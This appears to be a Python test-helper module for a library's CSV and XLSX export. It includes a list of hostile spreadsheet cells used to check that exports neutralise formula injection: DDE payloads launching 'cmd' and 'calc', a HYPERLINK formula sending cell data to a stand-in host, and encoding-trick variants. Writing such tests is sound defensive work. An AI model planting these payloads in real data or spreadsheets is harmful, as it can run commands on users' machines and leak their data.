"""What a spreadsheet program would find in the files we write, read with nothing but the standard library."""

import csv
import io
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime
from decimal import Decimal
from xml.etree import ElementTree as ET

from mesa.lib.hojas_de_calculo import Columna, Fila, Tipo, escribir_xlsx, trozos_de_csv

HOJA = "xl/worksheets/sheet1.xml"
NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
TEXTO = (Columna("Proveedor"),)
TODAS = (
    Columna("Proveedor", ancho=40),
    Columna("Total", Tipo.IMPORTE),
    Columna("Emitido", Tipo.FECHA),
    Columna("Presentado", Tipo.INSTANTE),
)
EJEMPLO: Fila = (
    "Ñuñoa & Cía. «S. A. C.»",
    Decimal("1180.50"),
    datetime(2026, 6, 26, tzinfo=UTC).date(),
    datetime(2026, 6, 27, 2, 30, 15, tzinfo=UTC),
)

# Every kind of cell that a stranger may send to be evaluated.
HOSTILES = [
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"ver")',
    "-2+3+cmd",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "\u202e=1+1",
    "\x00=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "S. A. C.;=1+1;",
    'S. A. C.," =1+1',
    "uno\r\n=1+1",
]


@dataclass(frozen=True, slots=True)
class Celda:
    """A cell: its kind (the attribute t), its text or number, and whether it has a formula."""

    clase: str
    valor: str
    formula: bool


def un_csv(columnas: tuple[Columna, ...], *filas: Fila) -> bytes:
    return b"".join(trozos_de_csv(columnas, filas))


def un_xlsx(columnas: tuple[Columna, ...], *filas: Fila) -> bytes:
    salida = io.BytesIO()
    escribir_xlsx(salida, columnas, filas, hoja="Comprobantes")
    return salida.getvalue()


def lineas_del_csv(contenido: bytes, *, separador: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(contenido.decode("utf-8-sig"), newline=""), delimiter=separador))


def parte_del_xlsx(contenido: bytes, nombre: str) -> ET.Element:
    with zipfile.ZipFile(io.BytesIO(contenido)) as archivo:
        return ET.fromstring(archivo.read(nombre))  # noqa: S314 – what we wrote ourselves


def celdas_del_xlsx(contenido: bytes) -> list[list[Celda]]:
    return [
        [_celda(c) for c in fila.findall("x:c", NS)]
        for fila in parte_del_xlsx(contenido, HOJA).findall("x:sheetData/x:row", NS)
    ]


def _celda(c: ET.Element) -> Celda:
    texto = c.findtext("x:is/x:t", namespaces=NS)
    valor = texto if texto is not None else c.findtext("x:v", default="", namespaces=NS)
    return Celda(c.get("t", "n"), valor, formula=any(e.tag.endswith("}f") for e in c.iter()))
